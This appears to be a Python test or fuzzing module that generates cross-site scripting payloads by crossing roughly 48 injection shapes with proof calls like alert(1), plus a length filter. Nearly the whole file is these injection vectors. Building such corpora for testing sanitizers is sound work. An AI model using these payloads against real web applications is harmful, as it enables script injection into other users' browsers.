# SPDX-License-Identifier: Apache-2.0
"""What somebody would type who wants his script to run in another person's browser."""

CALLS = ["alert(1)", "print()", "confirm`1`"]
SHAPES = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<svg><script>{}</script></svg>",
    "\"><script>{}</script>", "'><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>",
    "</textarea><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "\"><img src=x onerror={}>", "'><img src=x onerror={}>",
    "<img src=x\tonerror={}>", "<IMG SRC=x ONERROR=\"{}\">", "<<img src=x onerror={}>", "<svg onload={}>",
    "<svg/onload={}>", "<body onload={}>", "<iframe onload={}>", "<iframe src=\"javascript:{}\">",
    "<iframe srcdoc=\"<svg onload={}>\">", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<a href=\"javascript:{}\" autofocus onfocus={}>x</a>", "<input autofocus onfocus={}>", "\" autofocus onfocus={} x=\"",
    "' autofocus onfocus={} x='", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<marquee onstart={}>", "<style onload={}></style>", "<link rel=stylesheet href=x onerror={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<form><button formaction=\"javascript:{}\" autofocus>x</button></form>", "<base href=\"javascript:{}//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "{{{{{{x}}}}}}<img src=x onerror={}>",
    "&lt;img src=x onerror={}&gt;", "&#60;img src=x onerror={}&#62;", "\\u003cimg src=x onerror={}\\u003e",
    "${{{}}}", "javascript:{}",
]
PAYLOADS = [shape.replace("{}", call).replace("{{", "{").replace("}}", "}") for shape in SHAPES for call in CALLS]


def short(limit):
    """Those that fit where so many characters may stand."""
    return [payload for payload in PAYLOADS if len(payload) <= limit]
